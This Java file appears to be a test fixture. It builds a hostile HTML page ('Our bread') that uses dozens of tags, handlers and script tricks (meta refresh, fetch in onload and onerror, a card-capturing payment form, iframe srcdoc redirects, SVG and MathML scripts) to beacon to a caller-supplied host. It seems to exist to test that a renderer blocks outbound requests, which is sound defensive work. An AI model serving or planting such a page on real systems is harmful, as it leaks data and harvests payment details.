package mupot.visitor;

/** A draft of someone who wants the approver's machine. */
final class Hostile {

    private Hostile() {}

    /** @param home where it would tell that it got away */
    static String page(String home) {
        return """
                <!doctype html><html lang="en"><head>
                <title>Our bread</title>
                <meta http-equiv="refresh" content="0;url=%1$s/refresh">
                <base href="%1$s/base/">
                <link rel="stylesheet" href="%1$s/style.css">
                <link rel="dns-prefetch" href="%1$s"><link rel="preload" as="image" href="%1$s/preload.png">
                <style>@import url("%1$s/import.css"); body { background: url("%1$s/background.png") }</style>
                <script>fetch("%1$s/script"); document.title = "got away"</script>
                <script src="%1$s/script.js"></script>
                </head><body onload="fetch('%1$s/onload')">
                <h1>Our bread</h1>
                <img src="%1$s/image.png" srcset="%1$s/image2.png 2x" alt="A loaf" onerror="fetch('%1$s/onerror')">
                <picture><source srcset="%1$s/source.png"><img src="x" alt=""></picture>
                <p style="background: url(%1$s/inline.png)">Open <a href="javascript:fetch('%1$s/js')" ping="%1$s/ping">daily</a></p>
                <form action="%1$s/form" method="post"><input name="card" autofocus onfocus="fetch('%1$s/focus')">
                <button formaction="%1$s/button">Pay</button></form>
                <iframe src="%1$s/frame" srcdoc="<script>parent.location='%1$s/out'</script>"></iframe>
                <object data="%1$s/object"></object><embed src="%1$s/embed">
                <video src="%1$s/video" poster="%1$s/poster.png" autoplay></video>
                <svg onload="fetch('%1$s/svg')"><image href="%1$s/svg.png"></image><script>fetch("%1$s/svgscript")</script></svg>
                <template><script>fetch("%1$s/template")</script></template>
                <math><annotation-xml encoding="text/html"><script>fetch("%1$s/math")</script></annotation-xml></math>
                </body></html>
                """
                .formatted(home);
    }
}
